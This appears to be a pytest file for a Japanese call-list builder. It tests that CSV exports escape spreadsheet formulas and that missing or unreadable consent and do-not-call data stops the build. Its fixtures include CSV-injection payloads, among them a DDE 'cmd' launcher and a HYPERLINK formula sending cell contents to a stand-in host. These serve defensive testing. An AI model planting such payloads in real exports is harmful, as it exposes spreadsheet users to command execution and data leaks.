"""Issue 26 part A: compliance data fails closed, nothing vanishes without a reject, no formula reaches a
spreadsheet. Every export here is written by the test (Japanese data, CP932 where a cart would use it)."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlalchemy import select as sa_select
from sqlmodel import Session, select

from dialer.cli import main
from dialer.outcomes import export_csv
from dialer.store.db import get_engine
from dialer.store.models import CallListEntry, Customer, Disposition
from dialer.views.report_view import write_report_csv
from dialer.voc import write_csv as write_voc_csv
from lists import ListsError, load_mapping
from lists.csvsafe import safe_cell
from tests.lists_util import AS_OF, CANONICAL, REPO, build, customer, line, order, read_csv, write_export
from tests.pgserver import pg_server, pg_url  # noqa: F401  (fixtures)
from tests.test_reports import NOW, build_store

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
        "\t=1+1", "\r=1+1"]


def ago(n: int) -> str:
    return (AS_OF - timedelta(days=n)).isoformat()


def _is_escaped(cell: str, raw: str) -> bool:
    return cell == "'" + raw


# --- no formula reaches a spreadsheet ---------------------------------------------------------------------


def test_safe_cell_rule() -> None:
    for raw in EVIL:
        assert safe_cell(raw) == "'" + raw
    # numbers and E.164 numbers stay usable; numbers as numbers are not text; ordinary Japanese text unchanged
    for keep in ("+819012345678", "+819012345678;+81312345678", "-500", "-1.5", "+3", "山田 太郎", "", "'=x"):
        assert safe_cell(keep) == keep
    assert safe_cell(-500) == -500 and safe_cell(None) is None
    assert safe_cell("+81-90-1234") == "'+81-90-1234"  # not a bare number: a spreadsheet would compute it


def test_call_list_rejects_and_excel_file_escape_formulas(tmp_path: Path) -> None:
    evil = EVIL[:-1]  # a leading CR is read back as a line feed by the loader's CSV pass: the unit test covers it
    custs = [customer(f"C{i}", f"090-3100-{i:04d}", name=raw) for i, raw in enumerate(evil)]
    custs.append(customer("=C9", "090-3100-0099", name="山田 花子"))
    orders = [order(f"O{i}", c["customer_id"], ago(200)) for i, c in enumerate(custs)]
    orders[-1]["total"] = 0  # worth less than a call: a negative priority, written as a number
    lines = [line(f"O{i}", "REG-A") for i in range(len(custs))]
    d = write_export(tmp_path / "in", customers=custs, orders=orders, order_lines=lines)
    # a bad cell whose raw value is a formula lands in rejects.csv: escaped there too
    with (d / "customers.csv").open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow(["C77", "x", "", "090-3100-0077", "", "", "", "=1+cmd|x", "1", "0", "0"])
    with build(d, tmp_path / "out") as r:
        assert r.summary["entries"]["dormant"] == len(custs)
    rows = read_csv(tmp_path / "out" / "call_list.csv")
    by_phone = {row["phone_e164"]: row for row in rows}
    for i, raw in enumerate(evil):
        row = by_phone[f"+81903100{i:04d}"]
        assert _is_escaped(row["name"], raw), row
        assert row["phones"] == row["phone_e164"]  # E.164 kept as is
        assert not row["phone_e164"].startswith("'")
    assert by_phone["+819031000099"]["customer_id"] == "'=C9"
    negative = by_phone["+819031000099"]["priority"]
    assert negative.startswith("-") and float(negative) < 0  # a number column is not text: no quote
    rej = read_csv(tmp_path / "out" / "rejects.csv")
    bad = [x for x in rej if x["line"] == str(len(custs) + 2) and x["column"] == "created_at"]
    assert bad and bad[0]["value"] == "'=1+cmd|x"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) and not v.startswith("+81")
                   for x in rej for v in x.values()), rej


def test_excel_cp932_call_list_is_escaped(tmp_path: Path) -> None:
    from lists import ListSettings

    custs = [customer("C1", "090-3200-0001", name="=HYPERLINK(\"http://x\",\"髙橋\")")]
    d = write_export(tmp_path / "in", customers=custs, orders=[order("O1", "C1", ago(200))],
                     order_lines=[line("O1", "REG-A")])
    with build(d, tmp_path / "out", settings=ListSettings(csv_encoding="cp932")):
        pass
    text = (tmp_path / "out" / "call_list.csv").read_bytes().decode("cp932")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'=HYPERLINK(\"http://x\",\"髙橋\")"


def test_outcomes_export_escapes_voc_text(db_url: str) -> None:
    build_store(db_url)
    eng = get_engine(db_url)
    with Session(eng) as s:
        d = s.exec(select(Disposition).order_by(Disposition.id.desc())).first()  # type: ignore[union-attr]
        assert d is not None
        d.voc_text = "=HYPERLINK(\"http://x.example\",\"もう電話しないで\")"
        s.add(d)
        s.commit()
    buf = io.StringIO()
    export_csv(eng, NOW - timedelta(days=400), buf)
    texts = [r["voc_text"] for r in csv.DictReader(io.StringIO(buf.getvalue()))]
    assert "'=HYPERLINK(\"http://x.example\",\"もう電話しないで\")" in texts
    assert not any(t.startswith("=") for t in texts)


def test_voc_and_report_csv_escape_text_but_not_numbers() -> None:
    buf = io.StringIO()
    write_voc_csv({"counts": [{"kind": "refused", "week": "2026-W48", "segment": "dormant", "product": "@SUM(1)",
                               "reason": "+cmd|x", "count": 3}],
                   "themes": [{"product": "A", "reason": "r", "count": 2, "keywords": ["価格"],
                               "examples": ["=1+1 高い"]}], "rising": []}, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["product"] == "'@SUM(1)" and rows[0]["reason"] == "'+cmd|x" and rows[0]["count"] == "3"
    assert rows[1]["examples"] == "'=1+1 高い"
    seg = {"attempts": 1, "answered": 1, "abandoned": 0, "abandon_rate": None, "hit_rate": 0.5,
           "connected_to_agent": 1, "sales": 0, "revenue": -500.0, "penetration": {}}
    buf = io.StringIO()
    write_report_csv({"by_segment": {"=evil": seg}, "penetration": {}, "logged_in_s": 60.0, "talk_s": 30.0,
                      "wrap_s": 5.0, "occupancy": 0.5, **seg}, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["segment"] == "'=evil" and rows[0]["revenue"] == "-500"


# --- compliance columns never vanish silently ---------------------------------------------------------------

CONFIG = REPO / "config" / "tsunagu.toml"


def _cli(inp: Path, out: Path, *extra: str, mapping: Path = CANONICAL) -> int:
    return main(["lists", "build", "--mapping", str(mapping), "--input", str(inp), "--out", str(out),
                 "--as-of", AS_OF.isoformat(), "--config", str(CONFIG), *extra])


def _store(url: str) -> tuple[list[tuple[str, str, str]], int]:
    eng = get_engine(url)
    with eng.connect() as c:
        entries = sorted((str(r[0]), str(r[1]), str(r[2])) for r in c.execute(
            sa_select(CallListEntry.customer_id, CallListEntry.segment, CallListEntry.status)))  # type: ignore[call-overload]
        n = int(c.execute(sa_select(func.count()).select_from(Customer)).scalar() or 0)
    return entries, n


def _nightly(d: Path, tel_col: str = "tel_ok", phone_col: str = "phone") -> Path:
    custs = [customer(f"C{i:02d}", f"090-41{i:02d}-{i:04d}", name=f"顧客{i}") for i in range(6)]
    custs[1]["tel_ok"] = 0  # 電話NG: must stay unlisted whatever the export does
    d = write_export(d, customers=custs, orders=[order(f"o{i}", f"C{i:02d}", ago(300)) for i in range(6)],
                     order_lines=[line(f"o{i}", "REG-A") for i in range(6)],
                     blocks=[{"phone": "090-4102-0002", "kind": "電話NG"}])
    for name, old, new in (("customers.csv", "tel_ok", tel_col), ("blocks.csv", "phone", phone_col)):
        text = (d / name).read_text(encoding="utf-8").split("\n", 1)
        head = ",".join(new if c == old else c for c in text[0].split(","))
        (d / name).write_text(head + "\n" + text[1], encoding="utf-8")
    return d


def test_renamed_compliance_column_refuses_the_build(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    _renamed_column(db_url, tmp_path, monkeypatch, capsys)


def test_renamed_compliance_column_refuses_postgresql(pg_url: str, tmp_path: Path,  # noqa: F811
                                                      monkeypatch: pytest.MonkeyPatch,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    _renamed_column(pg_url, tmp_path, monkeypatch, capsys)


def _renamed_column(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                    capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DIALER_DATABASE_URL", db_url)
    assert _cli(_nightly(tmp_path / "n1"), tmp_path / "o1") == 0
    before = _store(db_url)
    listed_ids = {e[0] for e in before[0] if e[2] == "pending"}
    assert listed_ids == {"C00", "C03", "C04", "C05"}  # C01 tel_ok=0, C02 on the DNC list
    capsys.readouterr()
    # tonight the CRM renamed tel_ok: C01 would read as callable
    assert _cli(_nightly(tmp_path / "n2", tel_col="電話可否"), tmp_path / "o2") == 3
    err = capsys.readouterr().err
    line1 = next(x for x in err.splitlines() if "tel_ok" in x)
    assert "customers.csv" in line1 and "'tel_ok'" in line1 and "refused" in line1
    assert _store(db_url) == before
    # the blocks file's phone column renamed: every number-level DNC would be dropped
    assert _cli(_nightly(tmp_path / "n3", phone_col="電話番号"), tmp_path / "o3") == 3
    err = capsys.readouterr().err
    assert any("blocks.csv" in x and "'phone'" in x for x in err.splitlines()), err
    assert _store(db_url) == before
    # --dry-run says so too, and writes nothing
    assert _cli(_nightly(tmp_path / "n4", tel_col="電話可否"), tmp_path / "o4", "--dry-run") == 0
    assert "would be refused: customers.csv" in capsys.readouterr().out
    # the operator follows the rename in the mapping: accepted without --force, C01 still not listed
    renamed = tmp_path / "renamed.toml"
    renamed.write_text(CANONICAL.read_text(encoding="utf-8").replace('tel_ok = "tel_ok"', 'tel_ok = "電話可否"'),
                       encoding="utf-8")
    assert _cli(_nightly(tmp_path / "n5", tel_col="電話可否"), tmp_path / "o5", mapping=renamed) == 0
    assert {e[0] for e in _store(db_url)[0] if e[2] == "pending"} == listed_ids
    # --force accepts a vanished column once; the next night it is no longer required
    assert _cli(_nightly(tmp_path / "n6", tel_col="電話可否"), tmp_path / "o6") == 3
    assert _cli(_nightly(tmp_path / "n6", tel_col="電話可否"), tmp_path / "o7", "--force") == 0
    assert _cli(_nightly(tmp_path / "n6", tel_col="電話可否"), tmp_path / "o8") == 0


def test_blocks_file_without_phone_or_customer_column_stops(tmp_path: Path) -> None:
    d = _nightly(tmp_path / "in", phone_col="電話番号")
    text = (d / "blocks.csv").read_text(encoding="utf-8").replace("customer_id", "会員番号")
    (d / "blocks.csv").write_text(text, encoding="utf-8")
    with pytest.raises(ListsError, match=r"blocks\.csv: none of the columns 'phone', 'customer_id' found"):
        build(d, tmp_path / "out")


@pytest.mark.parametrize("table", ["orders", "blocks", "order_lines"])
def test_zero_byte_file_is_one_line_refusal(tmp_path: Path, table: str, capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch, db_url: str) -> None:
    monkeypatch.setenv("DIALER_DATABASE_URL", db_url)
    d = _nightly(tmp_path / "in")
    (d / f"{table}.csv").write_bytes(b"")
    assert _cli(d, tmp_path / "out") == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and f"{table}.csv: empty file (0 bytes)" in err[0] and "Traceback" not in err[0]
    assert _store(db_url) == ([], 0)


# --- unreadable consent is no consent -----------------------------------------------------------------------

CP932_MAPPING = """
name = "cart"
[tables.customers]
glob = "kaiin*.csv"
encoding = "cp932"
[tables.customers.columns]
customer_id = "会員ID"
name = "氏名"
phone = "電話番号"
tel_ok = "電話許可"
withdrawn = "退会"
caution = "注意"
[tables.orders]
glob = "juchu*.csv"
encoding = "cp932"
[tables.orders.columns]
order_id = "受注ID"
customer_id = "会員ID"
ordered_at = "受注日"
shipped_at = "発送日"
[tables.blocks]
glob = "kinshi*.csv"
encoding = "cp932"
[tables.blocks.columns]
phone = "電話番号"
customer_id = "会員ID"
kind = "区分"
[blocks.kinds]
"休眠NG" = "dnc"
"""


def _cp932(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode("cp932"))


def test_compliance_cells_in_japanese_forms_and_unreadable_ones_protect(tmp_path: Path) -> None:
    d = tmp_path / "in"
    d.mkdir()
    cells = {  # id: (電話許可, 退会, 注意, listed?)
        "K01": ("可", "", "", True), "K02": ("不可", "", "", False), "K03": ("拒否", "", "", False),
        "K04": ("1.0", "0.0", "無", True), "K05": ("許可", "本会員", "なし", True), "K06": ("○", "×", "", True),
        "K07": ("２", "", "", False), "K08": ("たぶん", "", "", False), "K09": ("", "退会", "", False),
        "K10": ("", "有効", "", False), "K11": ("OK", "", "要注意", False), "K12": ("ＯＫ", "", "", True),
        "K13": ("yes", "no", "false", True), "K14": ("", "", "？", False),
    }
    rows = [["会員ID", "氏名", "電話番号", "電話許可", "退会", "注意"]]
    for i, (cid, (tel, wd, ca, _)) in enumerate(cells.items()):
        rows.append([cid, "髙橋 一郎", f"090-52{i:02d}-{i:04d}", tel, wd, ca])
    _cp932(d / "kaiin.csv", rows)
    _cp932(d / "juchu.csv", [["受注ID", "会員ID", "受注日", "発送日"]]
           + [[f"J{i}", cid, ago(300), ago(299)] for i, cid in enumerate(cells)])
    _cp932(d / "kinshi.csv", [["電話番号", "会員ID", "区分"]])
    (tmp_path / "m.toml").write_text(CP932_MAPPING, encoding="utf-8")
    with build(d, tmp_path / "out", mapping=tmp_path / "m.toml") as r:
        got = {e.customer_id for e in r.entries()}
    assert got == {cid for cid, c in cells.items() if c[3]}
    rej = read_csv(tmp_path / "out" / "rejects.csv")
    unreadable = {(x["file"], x["line"], x["column"], x["value"]) for x in rej if x["reason"].startswith("unreadable")}
    assert unreadable == {("kaiin.csv", "8", "電話許可", "２"), ("kaiin.csv", "9", "電話許可", "たぶん"),
                          ("kaiin.csv", "11", "退会", "有効"), ("kaiin.csv", "15", "注意", "？")}


def test_block_kinds_japanese_defaults_mapping_table_and_unknown_blocks(tmp_path: Path) -> None:
    d = tmp_path / "in"
    d.mkdir()
    ids = [f"K{i:02d}" for i in range(9)]
    _cp932(d / "kaiin.csv", [["会員ID", "氏名", "電話番号", "電話許可", "退会", "注意"]]
           + [[cid, "佐藤 花子", f"090-53{i:02d}-{i:04d}", "1", "0", "0"] for i, cid in enumerate(ids)])
    _cp932(d / "juchu.csv", [["受注ID", "会員ID", "受注日", "発送日"]]
           + [[f"J{i}", cid, ago(300), ago(299)] for i, cid in enumerate(ids)])
    _cp932(d / "kinshi.csv", [["電話番号", "会員ID", "区分"],
                              ["090-5300-0000", "", "電話NG"], ["", "K01", "拒否"], ["090-5302-0002", "", "架電不可"],
                              ["", "K03", "do_not_call"], ["０９０－５３０４－０００４", "", "DNC"],
                              ["", "K05", "休眠NG"], ["090-5306-0006", "", "要確認"], ["", "K07", ""]])
    (tmp_path / "m.toml").write_text(CP932_MAPPING, encoding="utf-8")
    with build(d, tmp_path / "out", mapping=tmp_path / "m.toml") as r:
        assert {e.customer_id for e in r.entries()} == {"K08"}
        assert r.summary["suppressed_customers"]["dnc"] == 7 and r.summary["suppressed_customers"]["refusal"] == 1
    rej = read_csv(tmp_path / "out" / "rejects.csv")
    unknown = {(x["file"], x["line"], x["column"]) for x in rej if x["reason"].startswith("unknown block kind")}
    assert unknown == {("kinshi.csv", "8", "区分"), ("kinshi.csv", "9", "区分")}
    # customers dropped for a number on the list: a line on their own phone cell saying which block
    by_num = {x["line"]: x for x in rej if x["file"] == "kaiin.csv" and x["reason"].startswith("number blocked: customer ")}
    assert set(by_num) == {"2", "4", "6", "8"}
    assert by_num["2"]["column"] == "電話番号" and by_num["2"]["reason"] == \
        "number blocked: customer K00 not listed (dnc, kinshi.csv line 2)"
    # summary.json counts them under one reason, not one per customer
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["rejected"]["number blocked"] == 4


def test_bad_kind_in_mapping_fails_naming_the_key(tmp_path: Path) -> None:
    (tmp_path / "m.toml").write_text(CP932_MAPPING.replace('"休眠NG" = "dnc"', '"休眠NG" = "maybe"'), encoding="utf-8")
    with pytest.raises(ListsError, match=r"blocks\.kinds\.休眠NG"):
        load_mapping(tmp_path / "m.toml")


# --- nothing vanishes without a reject ----------------------------------------------------------------------


def test_impossible_dates_and_quantities_are_rejects(tmp_path: Path) -> None:
    custs = [customer(f"C{i}", f"090-5400-{i:04d}") for i in range(4)]
    orders = [order("O0", "C0", (AS_OF + timedelta(days=30)).isoformat()), order("O1", "C1", ago(300)),
              order("O2", "C2", ago(300)), order("O3", "C3", ago(300))]
    orders[1]["shipped_at"] = ago(400)  # shipped before it was ordered
    orders[2]["shipped_at"] = (AS_OF + timedelta(days=3)).isoformat()  # "shipped" in the future
    lines = [line("O1", "REG-A"), line("O2", "REG-A"), line("O3", "REG-A")]
    bad_lines = [("O3", "REG-B", "1,000,000,000", "100"), ("O3", "REG-B", "nan", "100"), ("O3", "REG-B", "1.5", "100"),
                 ("O3", "REG-B", "-2", "100"), ("O3", "REG-C", "1", "nan"), ("O3", "REG-C", "1", "1e12")]
    d = write_export(tmp_path / "in", customers=custs, orders=orders, order_lines=lines)
    with (d / "order_lines.csv").open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(bad_lines)
    with build(d, tmp_path / "out") as r:
        dormant = {e.customer_id for e in r.entries() if e.segment == "dormant"}
        assert r.con.execute("SELECT count(*) FROM orders WHERE order_id = 'O0'").fetchone() == (0,)
        assert r.con.execute("SELECT count(*) FROM order_lines WHERE order_id = 'O3'").fetchone() == (3,)
    assert {"C1", "C2", "C3"} <= dormant
    rej = read_csv(tmp_path / "out" / "rejects.csv")
    why = {(x["file"], x["line"], x["column"]): x["reason"] for x in rej}
    assert why[("orders.csv", "2", "ordered_at")].startswith("ordered_at after the build date")
    assert why[("orders.csv", "3", "shipped_at")].startswith("shipped_at before ordered_at")
    assert why[("orders.csv", "4", "shipped_at")].startswith("shipped_at after the build date")
    assert why[("order_lines.csv", "5", "quantity")] == "quantity over 1000000"
    assert why[("order_lines.csv", "6", "quantity")] == "quantity is not a whole number"
    assert why[("order_lines.csv", "7", "quantity")] == "quantity is not a whole number"
    assert why[("order_lines.csv", "8", "quantity")] == "quantity must be positive"
    assert why[("order_lines.csv", "9", "unit_price")].startswith("bad float")
    assert why[("order_lines.csv", "10", "unit_price")].startswith("bad float")


def test_judge_a_table_or_field_dropped_from_the_mapping_refuses() -> None:
    from lists.compliance import judge

    seen = {"customers.tel_ok", "customers.tel_ok:tel_ok", "blocks.phone", "blocks.phone:phone"}
    tel = {"table": "customers", "field": "tel_ok", "file": "c.csv"}
    reasons, present, missing = judge(seen, [{**tel, "column": "tel_ok", "present": True}], "m.toml")
    assert reasons == ["m.toml: compliance field blocks.phone is no longer mapped; earlier builds read it"]
    assert missing == {"blocks.phone", "blocks.phone:phone"} and "customers.tel_ok" in present
    reasons, _, _ = judge(seen - {"blocks.phone", "blocks.phone:phone"},
                          [{**tel, "column": "", "file": "", "present": False}], "m.toml")
    assert reasons == ["m.toml: compliance field customers.tel_ok is no longer read from any column; earlier "
                       "builds read it"]
    # never seen: nothing to refuse (the first night, or a shop that never exported the column)
    assert judge(set(), [{**tel, "column": "tel_ok", "present": False}])[0] == []
